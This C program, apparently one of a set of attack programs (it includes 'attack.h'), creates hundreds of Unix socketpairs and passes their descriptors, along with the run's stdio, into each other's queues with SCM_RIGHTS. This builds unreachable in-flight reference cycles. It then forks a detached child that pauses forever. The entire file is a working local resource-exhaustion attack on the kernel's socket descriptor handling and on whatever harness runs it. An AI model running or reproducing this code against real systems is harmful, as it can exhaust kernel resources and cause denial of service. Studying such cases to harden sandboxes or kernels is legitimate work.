// SPDX-License-Identifier: MIT
/* Sockets that lie in each other's queues, the fds of this run's stdio with them. */
#include "attack.h"

#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

static int send_fds(int to, const int fds[4])
{
	union {
		char bytes[CMSG_SPACE(4 * sizeof(int))];
		struct cmsghdr align;
	} control = { 0 };
	struct iovec iov = { (void *)"x", 1 };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = &control,
			      .msg_controllen = sizeof(control) };

	control.align.cmsg_level = SOL_SOCKET;
	control.align.cmsg_type = SCM_RIGHTS;
	control.align.cmsg_len = CMSG_LEN(4 * sizeof(int));
	memcpy(CMSG_DATA(&control.align), fds, 4 * sizeof(int));
	return (int)sendmsg(to, &msg, MSG_DONTWAIT);
}

int main(void)
{
	int last[2] = { 0, 1 };

	for (int i = 0; i < 400; i++) {
		int ends[2];

		if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) < 0)
			break;
		send_fds(ends[0], (int[]){ ends[0], ends[1], last[0], 1 });
		send_fds(ends[1], (int[]){ ends[1], ends[0], last[1], 2 });
		if (last[0] > 2) {
			close(last[0]);
			close(last[1]);
		}
		memcpy(last, ends, sizeof(last));
	}
	if (fork() == 0) {
		setsid();
		for (;;)
			pause();
	}
	return 0;
}
